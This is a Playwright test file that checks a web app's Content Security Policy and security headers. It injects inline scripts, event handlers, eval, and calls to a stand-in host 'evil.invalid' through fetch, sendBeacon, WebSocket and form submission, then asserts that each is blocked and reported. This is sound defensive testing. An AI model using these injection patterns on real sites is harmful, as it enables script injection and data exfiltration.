import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { expect, test } from '../../support/fixtures.ts';

/** What somebody who got markup or a script into a page would try. Each names the directive that stops it. */
const attacks: [name: string, directive: string, attack: () => void][] = [
  [
    'an inline script',
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.textContent = 'window.planted = true';
      document.body.append(script);
    },
  ],
  [
    'a script of another site',
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.src = 'http://evil.invalid/x.js';
      document.body.append(script);
    },
  ],
  [
    'an event handler in markup',
    'script-src-attr',
    () => document.body.insertAdjacentHTML('beforeend', '<img src="/favicon.svg" onload="window.planted = true">'),
  ],
  [
    'a javascript: link',
    'script-src-elem',
    () => {
      const link = document.createElement('a');
      link.href = 'javascript:window.planted=true';
      document.body.append(link);
      link.click();
    },
  ],
  ['a text run as code', 'script-src', () => setTimeout('window.planted = true', 0)],
  // Later, when no tool of the test is at work: what it runs itself is let through.
  [
    'eval',
    'script-src',
    () =>
      setTimeout(() => {
        try {
          eval('window.planted = true');
        } catch {
          // stopped, as it should be; the event says by what
        }
      }, 0),
  ],
  [
    'a function made of text',
    'script-src',
    () =>
      setTimeout(() => {
        try {
          new Function('window.planted = true')();
        } catch {
          // as above
        }
      }, 0),
  ],
  [
    'a worker made of text',
    'worker-src',
    () => {
      try {
        new Worker(URL.createObjectURL(new Blob(['self.close()'], { type: 'text/javascript' })));
      } catch {
        // as above
      }
    },
  ],
  [
    'a socket to another site',
    'connect-src',
    () => {
      try {
        new WebSocket('ws://evil.invalid/');
      } catch {
        // as above
      }
    },
  ],
  ['a call to another site', 'connect-src', () => void fetch('http://evil.invalid/').catch(() => undefined)],
  ['a beacon to another site', 'connect-src', () => void navigator.sendBeacon('http://evil.invalid/', 'x')],
  [
    'a picture of another site',
    'img-src',
    () => {
      document.body.append(Object.assign(new Image(), { src: 'http://evil.invalid/x.png' }));
    },
  ],
  [
    'a style sheet in markup',
    'style-src-elem',
    () => document.body.insertAdjacentHTML('beforeend', '<style>body{display:none}</style>'),
  ],
  [
    'a plug-in',
    'object-src',
    () => document.body.insertAdjacentHTML('beforeend', '<object data="http://evil.invalid/x"></object>'),
  ],
  [
    'another base',
    'base-uri',
    () => document.head.insertAdjacentHTML('beforeend', '<base href="http://evil.invalid/">'),
  ],
  [
    'a form to another site',
    'form-action',
    () => {
      const form = Object.assign(document.createElement('form'), { action: 'http://evil.invalid/' });
      document.body.append(form);
      form.submit();
    },
  ],
];

type Marked = Window & { planted?: boolean; blocked?: string[] };

async function noteViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    (window as Marked).blocked = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      (window as Marked).blocked?.push(effectiveDirective);
    });
  });
}

test('what an attacker would plant is blocked and reported, each by its directive', async ({
  openPage,
  watch,
  world,
}) => {
  watch.allow(/content policy|Content Security Policy|ERR_/);
  const page = await openPage();
  const reports: string[] = [];
  page.on('response', (response) => {
    if (response.url().endsWith('/api/csp-report') && response.status() === 204)
      reports.push(response.request().postData() ?? '');
  });
  await noteViolations(page);
  await page.goto('/404');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();

  for (const [name, directive, attack] of attacks) {
    await page.evaluate(() => void ((window as Marked).blocked = []));
    await page.evaluate(attack);
    await expect.poll(() => page.evaluate(() => (window as Marked).blocked), name).toContain(directive);
  }

  // Not by a locator: Playwright waits for the navigation of the form, which the policy has stopped.
  const left = await page.evaluate(() => [
    (window as Marked).planted,
    document.querySelectorAll('h1').length,
    location.origin,
  ]);
  expect(left).toEqual([undefined, 1, world.url]);

  // Our own server hears of it, and takes it.
  const seen = ['"blocked-uri":"eval"', '"blocked-uri":"inline"', 'evil.invalid'];
  await expect
    .poll(() => seen.map((what) => reports.some((report) => report.includes(what))))
    .toEqual([true, true, true]);
});

test('no page of ours stands in a frame of another site', async ({ openPage, world, watch }) => {
  watch.allow(/frame|ERR_BLOCKED_BY_RESPONSE|content policy/i);
  const framing = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html');
    // With an icon of its own, or the browser would ask for one when this server is gone.
    response.end(
      `<link rel="icon" href="data:,"><h1>Free heroes</h1><iframe src="${world.url}/login" title="prize"></iframe>`,
    );
  });
  await new Promise<void>((resolve) => framing.listen(0, '127.0.0.1', resolve));
  try {
    const page = await openPage();
    const { port } = framing.address() as AddressInfo;
    await page.goto(`http://127.0.0.1:${String(port)}/`);
    await page.waitForLoadState('load');

    const [frame] = page.frames().filter((each) => each !== page.mainFrame());
    await expect.poll(() => frame?.url()).toMatch(/^chrome-error:/);
  } finally {
    framing.close();
  }
});

test('every page comes with the headers that protect it', async ({ openPage }) => {
  const page = await openPage();
  for (const where of ['/', '/market/hero', '/login', '/no/such/page']) {
    const headers = (await page.goto(where))?.headers() ?? {};
    const policy = headers['content-security-policy'] ?? '';
    const scripts = /script-src ([^;]+)/.exec(policy)?.[1] ?? '';

    expect(scripts, where).toMatch(/'nonce-[\w-]{16,}'/);
    expect(scripts, where).not.toMatch(/unsafe-inline|unsafe-eval|\*|https?:(?!\/\/)/);
    expect(policy).toContain("frame-ancestors 'none'");
    expect(headers).toMatchObject({ 'x-content-type-options': 'nosniff', 'x-frame-options': 'DENY' });
    expect(headers['referrer-policy']).toMatch(
      /^(strict-origin-when-cross-origin|no-referrer|same-origin|strict-origin)$/,
    );
  }
});
